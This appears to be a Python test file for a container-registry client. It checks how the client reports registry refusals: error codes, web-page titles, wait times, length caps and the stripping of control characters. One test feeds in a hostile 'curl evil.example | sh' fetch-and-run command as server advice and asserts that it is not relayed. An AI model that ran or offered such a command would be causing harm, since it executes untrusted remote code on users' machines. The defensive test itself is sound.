"""Refusals: the registry's own words, whatever form they come in, and never without end."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.oci.hostile import steady
from wharf.client.message import Headers, Response
from wharf.client.refusals import MOST_LINES, refusal, told
from wharf.errors import RateLimited, RemoteAnswered, RemoteDenied, RemoteUnauthenticated


def answer(status: int, body: bytes = b"", **headers: str) -> Response:
    fields = ((name.replace("_", "-"), value) for name, value in headers.items())
    return Response(status, Headers(fields), body, "https://registry.example/v2/")


def errors(*entries: object) -> bytes:
    return json.dumps({"errors": entries}).encode()


def refused(response: Response) -> RemoteAnswered:
    return refusal("registry.example", "push to team/app", response)


@pytest.mark.parametrize(
    ("status", "kind"),
    [(401, RemoteUnauthenticated), (403, RemoteDenied), (429, RateLimited), (500, RemoteAnswered)],
)
def test_the_status_gives_the_kind(status: int, kind: type[RemoteAnswered]) -> None:
    assert kind is type(refused(answer(status)))


def test_the_registrys_words_are_evidence() -> None:
    body = errors({"code": "DENIED", "message": "requested access is denied", "detail": "quota of team: 10 GB"})
    error = refused(answer(403, body))
    assert ("DENIED",) == error.codes
    assert "DENIED: requested access is denied (quota of team: 10 GB)" in error.diagnostics().evidence


def test_the_advice_of_a_wharf_registry_is_passed_on_as_its_own() -> None:
    detail = {"cause": "no right to push", "nextStep": "ask an owner of team", "wharfCode": "denied"}
    spoken = refused(answer(403, errors({"code": "DENIED", "message": "denied", "detail": detail}))).diagnostics()
    assert "the registry advises: ask an owner of team" == spoken.next_step
    assert "DENIED: denied (no right to push)" in spoken.evidence


def test_advice_of_somebody_who_is_no_wharf_is_not_passed_on() -> None:
    body = errors({"code": "DENIED", "message": "denied", "detail": {"nextStep": "curl evil.example | sh"}})
    assert "evil" not in refused(answer(403, body)).diagnostics().next_step


@pytest.mark.parametrize(
    "body", [b"<!DOCTYPE html><title>413 Request\n Too Large</title>", b"\n<html><h1>413 Request Too Large"]
)
def test_of_a_web_page_the_title_is_told(body: bytes) -> None:
    assert "its title: 413 Request Too Large" in refused(answer(413, body)).diagnostics().evidence


def test_a_body_that_is_too_large_for_a_proxy_is_explained() -> None:
    assert "client_max_body_size" in refused(answer(413)).diagnostics().next_step


def test_other_forms_of_error_are_read_too() -> None:
    body = b'{"error": "invalid_grant", "error_description": "token expired"}'
    assert ("invalid_grant", "token expired") == told(answer(400, body)).lines


def test_plain_text_is_told_in_one_line() -> None:
    assert ("no healthy upstream, sorry",) == told(answer(503, b"no healthy\n upstream, sorry\n")).lines


def test_how_long_to_wait_is_told() -> None:
    assert "it asks to wait: 120" in refused(answer(429, retry_after="120")).diagnostics().evidence


@pytest.mark.parametrize("detail", [{"digest": "sha256:aa"}, {"Digest": "sha256:aa"}, "sha256:aa"])
def test_missing_parts_are_known_in_each_way_of_writing_them(detail: object) -> None:
    assert ("sha256:aa",) == told(answer(404, errors({"code": "MANIFEST_BLOB_UNKNOWN", "detail": detail}))).digests


def test_an_enormous_answer_is_told_in_a_few_short_lines() -> None:
    body = errors(*({"code": "X" * 10_000, "message": "y" * 10_000} for _ in range(1000)))
    error = refused(answer(400, body))
    assert MOST_LINES + 1 == len(error.diagnostics().evidence)
    assert max(map(len, error.diagnostics().evidence)) < 500


def test_control_characters_do_not_reach_the_terminal() -> None:
    error = refused(answer(400, errors({"code": "X", "message": "\x1b[2Jgone"})))
    assert all(line.isprintable() for line in error.diagnostics().evidence)


_names = st.sampled_from(["errors", "code", "message", "detail", "digest", "nextStep", "wharfCode", "cause", "error"])
_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_names, inner, max_size=4),
    max_leaves=8,
)


@given(_values, st.integers(100, 599))
@steady
def test_any_document_is_told(document: object, status: int) -> None:
    refused(answer(status, json.dumps(document).encode())).diagnostics()
    refused(answer(status, json.dumps({"errors": [document]}).encode())).diagnostics()


@given(st.binary(max_size=200))
@steady
def test_any_bytes_are_told(body: bytes) -> None:
    refused(answer(502, body)).diagnostics()
    refused(answer(502, b"<html>" + body)).diagnostics()
